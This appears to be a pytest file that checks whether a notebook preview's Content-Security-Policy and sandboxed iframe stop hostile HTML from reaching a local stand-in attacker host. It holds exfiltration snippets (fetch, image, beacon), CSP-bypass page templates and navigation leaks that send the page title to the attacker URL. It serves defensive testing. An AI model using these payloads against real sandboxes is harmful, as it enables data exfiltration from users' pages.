"""The preview policy against hostile pages, in Chromium: the CSP meta placed first cannot be
fooled, the CDN level loads allow-listed scripts and nothing else, and the navigation the CSP
cannot stop is detected by the %%vibe panel's front end.

Each page runs as the panels run it: `<iframe sandbox="allow-scripts" srcdoc=...>`. A real
"attacker" host on 127.0.0.1 counts every request that reaches it.
"""

from __future__ import annotations

import html
import time
from typing import Any, Iterator

import pytest

from tests.fakes.web_host import WebHost
from vibing2_lab.preview import PreviewPolicy

LEAK = "{A}"  # replaced by the attacker's URL


def leaks(tag: str) -> str:
    """Every way a script can send a request, tagged so a hit names the page that leaked."""
    return (f"<script>fetch('{LEAK}/fetch-{tag}').catch(() => 0); new Image().src = '{LEAK}/img-{tag}';"
            f"navigator.sendBeacon && navigator.sendBeacon('{LEAK}/beacon-{tag}');"
            f"parent.postMessage('ran-{tag}', '*');</script><img src='{LEAK}/tag-{tag}'>")


# Pages written to defeat a CSP inserted after "the first <head>" or at a wrong place.
HOSTILE = {
    "comment-head": "<!-- <head> -->" + "<html><head><title>t</title></head><body>{L}</body></html>",
    "title-head": "<html><title><head></title>{L}<head></head></html>",
    "script-before-head": "{L}<html><head></head><body></body></html>",
    "doctype-then-comment": "<!DOCTYPE html><!-- <head> --><html>{L}<head></head></html>",
    "quoted-doctype": '<!DOCTYPE html PUBLIC "-//x>{L}" "y"><html><head></head></html>',
    "own-open-csp": ('<html><head><meta http-equiv="Content-Security-Policy" content="default-src * \'unsafe-inline\'">'
                     "</head><body>{L}</body></html>"),
    "base-href": "<html><head><base href='{A}/'></head><body><script src='x.js'></script>{L}</body></html>",
    "no-html-at-all": "{L}",
}


@pytest.fixture(scope="module")
def attacker() -> Iterator[WebHost]:
    with WebHost() as host:
        yield host


@pytest.fixture(scope="module")
def cdn() -> Iterator[WebHost]:
    lib = "window.LIB_LOADED = true; parent.postMessage('cdn-script-ran', '*');"
    with WebHost({"/lib.js": ("text/javascript", lib), "/data.json": ("application/json", "{}")}) as host:
        yield host


def run_in_frame(page: Any, doc: str, *, wait_for: str | None = None, settle: float = 0.6) -> list[str]:
    """Load `doc` as a sandboxed srcdoc and return the messages the frame posted."""
    page.set_content("<script>window.msgs = []; addEventListener('message', e => msgs.push(String(e.data)));"
                     "</script><iframe sandbox='allow-scripts' srcdoc=\"" + html.escape(doc, quote=True) + "\">"
                     "</iframe>")
    if wait_for:
        page.wait_for_function("m => window.msgs.includes(m)", arg=wait_for, timeout=10_000)
    time.sleep(settle)
    return page.evaluate("window.msgs")


def test_hostile_pages_cannot_reach_the_network(page: Any, attacker: WebHost) -> None:
    policy = PreviewPolicy()  # the default: cdn
    for name, template in HOSTILE.items():
        raw = template.replace("{L}", leaks(name)).replace(LEAK, attacker.url).replace("{A}", attacker.url)
        doc = policy.document(raw)
        messages = run_in_frame(page, doc)
        hits = [h for h in attacker.hits if name in h or h == "/x.js"]
        assert hits == [], (name, hits)
        assert f"ran-{name}" in messages, (name, messages)  # the page did run, it just could not leak


def test_the_attacker_host_sees_a_page_without_the_policy(page: Any, attacker: WebHost) -> None:
    """The control: with network `open` the same page reaches the host, so the test above can fail."""
    raw = HOSTILE["comment-head"].replace("{L}", leaks("control")).replace(LEAK, attacker.url)
    run_in_frame(page, PreviewPolicy(network="open").document(raw), wait_for="ran-control")
    deadline = time.monotonic() + 5
    while not any("control" in h for h in attacker.hits) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert any(h.startswith("/fetch-control") for h in attacker.hits)


def test_cdn_level_loads_allow_listed_scripts_and_blocks_connections(page: Any, attacker: WebHost,
                                                                     cdn: WebHost) -> None:
    policy = PreviewPolicy(cdns=(cdn.url,))
    doc = policy.document(
        f"<!doctype html><html><head><script src='{cdn.url}/lib.js'></script></head><body><script>"
        f"fetch('{cdn.url}/data.json').then(() => parent.postMessage('cdn-fetch-ok', '*'),"
        f" () => parent.postMessage('cdn-fetch-blocked', '*'));"
        f"fetch('{attacker.url}/other').then(() => parent.postMessage('other-ok', '*'),"
        f" () => parent.postMessage('other-blocked', '*'));</script></body></html>")
    messages = run_in_frame(page, doc, wait_for="other-blocked")
    assert "cdn-script-ran" in messages  # a script from the allow-listed host runs
    assert "cdn-fetch-blocked" in messages and "cdn-fetch-ok" not in messages  # connect-src stays closed
    assert "/data.json" not in cdn.hits and not [h for h in attacker.hits if h == "/other"]
    none = PreviewPolicy(network="none", cdns=(cdn.url,)).document(
        f"<script src='{cdn.url}/lib.js?none'></script><script>parent.postMessage('page-ran', '*')</script>")
    assert "cdn-script-ran" not in run_in_frame(page, none, wait_for="page-ran")
    assert "/lib.js?none" not in cdn.hits


NAVIGATORS = {
    "script": "<script>setTimeout(() => { location.href = '{A}/nav-script?c=' + document.title }, 200)</script>",
    "link": "<a id=go href='{A}/nav-link'>go</a><script>setTimeout(() => document.getElementById('go').click(), 200)"
            "</script>",
    "refresh": "<meta http-equiv='refresh' content='0; url={A}/nav-refresh'>",
}


def test_the_panel_replaces_a_navigating_preview_with_a_notice(browser: Any, attacker: WebHost) -> None:
    from tests.browser.test_vibe_cell import answer, host

    page = browser.new_page()
    try:
        for name, body in NAVIGATORS.items():
            doc = PreviewPolicy().document(f"<!doctype html><title>secret</title><p>app</p>{body}"
                                           .replace("{A}", attacker.url))
            host(page, format="html", answers=[answer("the page", preview=doc)])
            page.wait_for_selector("iframe[sandbox='allow-scripts']")
            notice = page.wait_for_selector("[data-vibe-preview='navigated']", timeout=10_000)
            assert "stopped" in notice.inner_text() and not page.query_selector("iframe"), name
            page.get_by_role("button", name="Reload preview").click()  # the page can be shown again
            page.wait_for_selector("iframe[sandbox='allow-scripts']")
    finally:
        page.close()


def test_a_preview_not_made_by_the_policy_is_not_run(browser: Any, attacker: WebHost) -> None:
    """A tampered widget state (a saved notebook) cannot drop the policy: the panel refuses the page."""
    from tests.browser.test_vibe_cell import answer, host

    page = browser.new_page()
    try:
        tampered = (f"<!-- {PreviewPolicy().meta()} --><script>fetch('{attacker.url}/tampered')</script>"
                    f"<img src='{attacker.url}/tampered-img'>")
        host(page, format="html", answers=[answer("the page", preview=tampered)])
        refused = page.wait_for_selector("[data-vibe-preview='refused']")
        assert "not shown" in refused.inner_text() and not page.query_selector("iframe")
        time.sleep(0.5)
        assert not [h for h in attacker.hits if "tampered" in h]
    finally:
        page.close()
